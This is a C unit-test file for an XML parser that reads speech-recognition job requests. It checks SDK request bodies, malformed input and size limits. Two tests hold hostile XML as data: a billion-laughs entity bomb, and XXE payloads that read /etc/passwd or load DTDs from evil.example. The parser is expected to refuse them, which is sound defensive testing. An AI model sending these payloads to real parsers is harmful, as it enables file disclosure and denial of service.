/* test_xml_parse.c — request bodies as the SDKs send them (copied from the captures in
 * shared/spec/sdk-requests.txt), element order freedom, unknown and repeated elements, malformed
 * documents, and the hostile ones: DOCTYPE/entity bombs, external entities, depth and size bombs. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "xml/xml.h"

/* Python SDK submit (Input first, Tag second). */
static const char PY_SUBMIT[] =
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
    "<Request><Input><Object>normal.mp4</Object></Input><Tag>SpeechRecognition</Tag><Operation><Output>"
    "<Bucket>examplebucket-1250000000</Bucket><Region>ap-chongqing</Region><Object>result.txt</Object>"
    "</Output><SpeechRecognition><EngineModelType>16k_zh</EngineModelType><ChannelNum>1</ChannelNum>"
    "<ResTextFormat>1</ResTextFormat><FilterDirty>0</FilterDirty><FilterModal>1</FilterModal>"
    "<ConvertNumMode>1</ConvertNumMode><SpeakerDiarization>0</SpeakerDiarization><SpeakerNumber>0"
    "</SpeakerNumber><FilterPunc>0</FilterPunc><OutputFileType>txt</OutputFileType></SpeechRecognition>"
    "</Operation><QueueId>p2e11b0a26d404d029c15f06c48803dde</QueueId><CallBack>http://127.0.0.1:9/cb"
    "</CallBack><CallBackFormat>JSON</CallBackFormat></Request>";

/* Node SDK submit (Tag first, no XML declaration). */
static const char NODE_SUBMIT[] =
    "<Request><Tag>SpeechRecognition</Tag><Input><Object>ci/music.mp3</Object></Input><Operation>"
    "<SpeechRecognition><EngineModelType>16k_zh_video</EngineModelType><ChannelNum>1</ChannelNum>"
    "<ResTextFormat>0</ResTextFormat><FilterDirty>1</FilterDirty><FilterModal>1</FilterModal>"
    "<ConvertNumMode>0</ConvertNumMode></SpeechRecognition><Output><Bucket>examplebucket-1250000000"
    "</Bucket><Region>ap-chongqing</Region><Object>ci/out/SpeechRecognition.txt</Object></Output>"
    "</Operation><QueueId>p2e11b0a26d404d029c15f06c48803dde</QueueId></Request>";

/* Python SDK queue update. */
static const char PY_QUEUE[] =
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
    "<Request><Name>asr-queue</Name><QueueID>p2e11b0a26d404d029c15f06c48803dde</QueueID><State>Active"
    "</State><NotifyConfig><Type>Url</Type><Url>http://127.0.0.1:9/cb</Url><Event>TaskFinish</Event>"
    "<State>On</State><ResultFormat>JSON</ResultFormat></NotifyConfig></Request>";

static xml_node *parse_ok(const char *doc)
{
    char err[200] = "";
    xml_node *root = xml_parse(doc, strlen(doc), NULL, err, sizeof err);
    if (!root)
        fail_msg("parse failed: %s", err);
    return root;
}

/* Returns the refusal reason (static), failing the test if the document was accepted. */
static const char *parse_refused(const char *doc, size_t len, const xml_parse_params *p)
{
    static char err[200];
    strcpy(err, "");
    xml_node *root = xml_parse(doc, len, p, err, sizeof err);
    if (root) {
        xml_free(root);
        fail_msg("document accepted: %.80s", doc);
    }
    assert_true(strlen(err) > 0);
    return err;
}

static void test_python_submit(void **state)
{
    (void)state;
    xml_node *r = parse_ok(PY_SUBMIT);
    assert_string_equal(xml_name(r), "Request");
    assert_string_equal(xml_path_text(r, "Tag"), "SpeechRecognition");
    assert_string_equal(xml_path_text(r, "Input/Object"), "normal.mp4");
    assert_null(xml_path_text(r, "Input/Url"));
    assert_string_equal(xml_path_text(r, "Operation/Output/Bucket"), "examplebucket-1250000000");
    assert_string_equal(xml_path_text(r, "Operation/Output/Object"), "result.txt");
    assert_string_equal(xml_path_text(r, "Operation/SpeechRecognition/EngineModelType"), "16k_zh");
    assert_string_equal(xml_path_text(r, "Operation/SpeechRecognition/ConvertNumMode"), "1");
    assert_string_equal(xml_path_text(r, "Operation/SpeechRecognition/OutputFileType"), "txt");
    assert_string_equal(xml_path_text(r, "QueueId"), "p2e11b0a26d404d029c15f06c48803dde");
    assert_string_equal(xml_path_text(r, "CallBack"), "http://127.0.0.1:9/cb");
    assert_string_equal(xml_path_text(r, "CallBackFormat"), "JSON");
    assert_null(xml_path_text(r, "CallBackType"));
    assert_null(xml_path(r, "Operation/TemplateId"));
    assert_string_equal(xml_text(r), "");
    xml_free(r);
}

static void test_element_order_is_free(void **state)
{
    (void)state;
    xml_node *py = parse_ok(PY_SUBMIT);
    xml_node *node = parse_ok(NODE_SUBMIT);
    /* Input before Tag in one, after in the other; Output before/after SpeechRecognition */
    assert_string_equal(xml_name(xml_first_child(py)), "Input");
    assert_string_equal(xml_name(xml_first_child(node)), "Tag");
    static const char *paths[] = {"Tag", "Input/Object", "Operation/Output/Bucket",
                                  "Operation/Output/Region", "Operation/SpeechRecognition/ChannelNum",
                                  "QueueId"};
    for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
        assert_non_null(xml_path_text(py, paths[i]));
        assert_non_null(xml_path_text(node, paths[i]));
    }
    assert_string_equal(xml_path_text(node, "Input/Object"), "ci/music.mp3");
    assert_string_equal(xml_path_text(node, "Operation/SpeechRecognition/EngineModelType"),
                        "16k_zh_video");
    assert_null(xml_path_text(node, "CallBack"));
    xml_free(py);
    xml_free(node);
}

static void test_same_name_at_different_levels(void **state)
{
    (void)state;
    xml_node *r = parse_ok(PY_QUEUE);
    assert_string_equal(xml_path_text(r, "State"), "Active");
    assert_string_equal(xml_path_text(r, "NotifyConfig/State"), "On");
    assert_string_equal(xml_path_text(r, "NotifyConfig/ResultFormat"), "JSON");
    assert_string_equal(xml_path_text(r, "QueueID"), "p2e11b0a26d404d029c15f06c48803dde");
    assert_null(xml_path_text(r, "QueueId")); /* case-sensitive */
    xml_free(r);
}

static void test_unknown_elements_are_kept_and_ignorable(void **state)
{
    (void)state;
    xml_node *r = parse_ok("<Request><Future a=\"1\"><Deep><Er>x</Er></Deep></Future>"
                           "<Tag>SpeechRecognition</Tag><Extra/></Request>");
    assert_string_equal(xml_path_text(r, "Tag"), "SpeechRecognition");
    assert_string_equal(xml_path_text(r, "Future/Deep/Er"), "x");
    assert_non_null(xml_child(r, "Extra"));
    int n = 0;
    for (const xml_node *c = xml_first_child(r); c; c = xml_next_sibling(c))
        n++;
    assert_int_equal(n, 3);
    xml_free(r);
}

static void test_repeated_siblings(void **state)
{
    (void)state;
    xml_node *r = parse_ok("<Response><JobsDetail><JobId>a</JobId></JobsDetail><TotalCount>3"
                           "</TotalCount><JobsDetail><JobId>b</JobId></JobsDetail><JobsDetail>"
                           "<JobId>c</JobId></JobsDetail><NextToken></NextToken></Response>");
    char seen[8] = "";
    for (const xml_node *j = xml_child(r, "JobsDetail"); j; j = xml_next_named(j))
        strcat(seen, xml_path_text(j, "JobId"));
    assert_string_equal(seen, "abc");
    assert_string_equal(xml_path_text(r, "TotalCount"), "3");
    assert_string_equal(xml_path_text(r, "NextToken"), "");
    assert_null(xml_next_named(xml_child(r, "TotalCount")));
    assert_null(xml_next_named(NULL));
    assert_null(xml_child(NULL, "x"));
    assert_null(xml_path(NULL, "x"));
    xml_free(r);
}

static void test_text_trimming_entities_cdata_utf8(void **state)
{
    (void)state;
    xml_node *r = parse_ok("<?xml version=\"1.0\"?>\n<!-- comment -->\n<?pi ignored?>\n"
                           "<R>\n  <A>  hello <B/> world \n</A>\n"
                           "  <E>&amp;&lt;&gt;&quot;&apos;&#x4E2D;&#25991;</E>\n"
                           "  <C><![CDATA[ <not> & markup ]]></C>\n"
                           "  <U>这是一条语音测试信息</U><Empty></Empty><Self/>\n</R>\n");
    assert_string_equal(xml_path_text(r, "A"), "hello  world");
    assert_string_equal(xml_path_text(r, "E"), "&<>\"'中文");
    assert_string_equal(xml_path_text(r, "C"), "<not> & markup");
    assert_string_equal(xml_path_text(r, "U"), "这是一条语音测试信息");
    assert_string_equal(xml_path_text(r, "Empty"), "");
    assert_string_equal(xml_path_text(r, "Self"), "");
    assert_string_equal(xml_text(r), "");
    assert_null(xml_path_text(r, "Missing"));
    assert_null(xml_path_text(r, "A/Missing"));
    assert_string_equal(xml_name(xml_path(r, "A/B")), "B");
    assert_ptr_equal(xml_path(r, ""), r);
    /* the raw text keeps what trimming drops; where nothing is trimmed both are the same */
    assert_string_equal(xml_path_raw_text(r, "A"), "  hello  world \n");
    assert_string_equal(xml_path_raw_text(r, "C"), " <not> & markup ");
    assert_string_equal(xml_path_raw_text(r, "E"), "&<>\"'中文");
    assert_string_equal(xml_path_raw_text(r, "Empty"), "");
    assert_null(xml_path_raw_text(r, "Missing"));
    assert_string_equal(xml_path_text(r, "A"), "hello  world");   /* asking for the raw text changes nothing */
    xml_free(r);
}

static void test_malformed(void **state)
{
    (void)state;
    static const char *bad[] = {
        "<", "<a>", "<a></b>", "<a><b></a></b>", "just text", "<a/><b/>", "<a>&undefined;</a>",
        "<a>\x01</a>", "<a>\xff\xfe</a>", "<a x=1/>", "<a>&#0;</a>", "</a>", "<a><!-- --</a>",
        "<?xml version=\"1.0\"?>", "  ", "<a></a>trailing",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        parse_refused(bad[i], strlen(bad[i]), NULL);
    char err[64];
    assert_null(xml_parse("", 0, NULL, err, sizeof err));
    assert_null(xml_parse(NULL, 0, NULL, err, sizeof err));
    assert_null(xml_parse("<a>", 3, NULL, NULL, 0)); /* no error buffer: still safe */
    /* truncation of the reason is safe */
    char tiny[4];
    assert_null(xml_parse("<a></b>", 7, NULL, tiny, sizeof tiny));
    assert_true(strlen(tiny) == 3);
    /* length is honoured: bytes after len are not read */
    xml_node *r = xml_parse("<a>x</a>GARBAGE", 8, NULL, err, sizeof err);
    assert_non_null(r);
    assert_string_equal(xml_text(r), "x");
    xml_free(r);
}

static void test_billion_laughs_refused(void **state)
{
    (void)state;
    static const char doc[] =
        "<?xml version=\"1.0\"?>\n"
        "<!DOCTYPE lolz [\n"
        " <!ENTITY lol \"lol\">\n"
        " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
        " <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
        " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
        " <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
        " <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
        " <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
        " <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
        " <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
        " <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
        "]>\n"
        "<Request><Tag>&lol9;</Tag></Request>";
    const char *why = parse_refused(doc, strlen(doc), NULL);
    assert_non_null(strstr(why, "DOCTYPE"));
}

static void test_doctype_and_external_entities_refused(void **state)
{
    (void)state;
    static const char *docs[] = {
        "<!DOCTYPE Request><Request/>",
        "<!DOCTYPE Request SYSTEM \"http://evil.example/x.dtd\"><Request/>",
        "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><r>&xxe;</r>",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]><r/>",
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ELEMENT r ANY>]><r/>",
    };
    for (size_t i = 0; i < sizeof docs / sizeof docs[0]; i++) {
        const char *why = parse_refused(docs[i], strlen(docs[i]), NULL);
        assert_non_null(strstr(why, "DOCTYPE"));
    }
}

static char *nested(size_t depth)
{
    buf b;
    buf_init(&b);
    for (size_t i = 0; i < depth; i++)
        buf_puts(&b, "<a>");
    buf_puts(&b, "x");
    for (size_t i = 0; i < depth; i++)
        buf_puts(&b, "</a>");
    return buf_steal(&b);
}

static void test_depth_limit(void **state)
{
    (void)state;
    xml_parse_params p = xml_parse_default_params();
    assert_int_equal(p.max_depth, 32);
    assert_int_equal(p.max_nodes, 4096);

    char *ok = nested(32);
    xml_node *r = xml_parse(ok, strlen(ok), &p, NULL, 0);
    assert_non_null(r);
    const xml_node *n = r;
    for (int i = 1; i < 32; i++)
        n = xml_first_child(n);
    assert_string_equal(xml_text(n), "x");
    xml_free(r);
    free(ok);

    char *over = nested(33);
    assert_non_null(strstr(parse_refused(over, strlen(over), &p), "deeper"));
    free(over);

    char *bomb = nested(100000); /* would overflow a recursive tree walk */
    assert_non_null(strstr(parse_refused(bomb, strlen(bomb), NULL), "deeper"));
    free(bomb);

    p.max_depth = 3;
    char *four = nested(4);
    parse_refused(four, strlen(four), &p);
    free(four);
}

static void test_node_limit(void **state)
{
    (void)state;
    buf b;
    buf_init(&b);
    buf_puts(&b, "<r>");
    for (int i = 0; i < 4095; i++)
        buf_puts(&b, "<i/>");
    buf_puts(&b, "</r>");
    xml_node *r = xml_parse(b.data, b.len, NULL, NULL, 0); /* 4096 elements: at the limit */
    assert_non_null(r);
    int count = 0;
    for (const xml_node *c = xml_child(r, "i"); c; c = xml_next_named(c))
        count++;
    assert_int_equal(count, 4095);
    xml_free(r);

    buf_reset(&b);
    buf_puts(&b, "<r>");
    for (int i = 0; i < 100000; i++)
        buf_puts(&b, "<i/>");
    buf_puts(&b, "</r>");
    assert_non_null(strstr(parse_refused(b.data, b.len, NULL), "elements"));

    xml_parse_params p = {.max_depth = 8, .max_nodes = 3};
    assert_null(xml_parse("<a><b/><c/><d/></a>", 19, &p, NULL, 0));
    r = xml_parse("<a><b/><c/></a>", 15, &p, NULL, 0);
    assert_non_null(r);
    xml_free(r);
    buf_free(&b);
}

static void test_text_limit(void **state)
{
    (void)state;
    size_t n = 2u * 1024 * 1024;
    char *doc = malloc(n + 16);
    strcpy(doc, "<a>");
    memset(doc + 3, 'x', n);
    strcpy(doc + 3 + n, "</a>");
    assert_non_null(strstr(parse_refused(doc, strlen(doc), NULL), "text"));
    /* half a MiB is fine */
    strcpy(doc + 3 + n / 4, "</a>");
    xml_node *r = xml_parse(doc, strlen(doc), NULL, NULL, 0);
    assert_non_null(r);
    assert_int_equal(strlen(xml_text(r)), n / 4);
    xml_free(r);
    free(doc);
}

/* Random corruption of a real body must never crash or leak (run under ASan too). */
static void test_mutations_do_not_crash(void **state)
{
    (void)state;
    srand(12345);
    size_t len = strlen(PY_SUBMIT);
    char *doc = malloc(len);
    int accepted = 0;
    for (int round = 0; round < 3000; round++) {
        memcpy(doc, PY_SUBMIT, len);
        int edits = 1 + rand() % 4;
        for (int e = 0; e < edits; e++)
            doc[rand() % len] = (char)(rand() % 256);
        size_t cut = round % 7 == 0 ? (size_t)rand() % len + 1 : len;
        xml_node *r = xml_parse(doc, cut, NULL, NULL, 0);
        if (r) {
            accepted++;
            (void)xml_path_text(r, "Operation/Output/Object");
            xml_free(r);
        }
    }
    free(doc);
    assert_true(accepted > 0 && accepted < 3000);
}

static void test_parse_speed(void **state)
{
    (void)state;
    size_t len = strlen(PY_SUBMIT);
    enum { N = 20000 };
    struct timespec a, b;
    clock_gettime(CLOCK_MONOTONIC, &a);
    for (int i = 0; i < N; i++) {
        xml_node *r = xml_parse(PY_SUBMIT, len, NULL, NULL, 0);
        assert_non_null(r);
        xml_free(r);
    }
    clock_gettime(CLOCK_MONOTONIC, &b);
    double us = ((double)(b.tv_sec - a.tv_sec) * 1e9 + (double)(b.tv_nsec - a.tv_nsec)) / 1e3 / N;
    printf("# parse of the %zu-byte Python submit body: %.2f us\n", len, us);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_python_submit),
        cmocka_unit_test(test_element_order_is_free),
        cmocka_unit_test(test_same_name_at_different_levels),
        cmocka_unit_test(test_unknown_elements_are_kept_and_ignorable),
        cmocka_unit_test(test_repeated_siblings),
        cmocka_unit_test(test_text_trimming_entities_cdata_utf8),
        cmocka_unit_test(test_malformed),
        cmocka_unit_test(test_billion_laughs_refused),
        cmocka_unit_test(test_doctype_and_external_entities_refused),
        cmocka_unit_test(test_depth_limit),
        cmocka_unit_test(test_node_limit),
        cmocka_unit_test(test_text_limit),
        cmocka_unit_test(test_mutations_do_not_crash),
        cmocka_unit_test(test_parse_speed),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
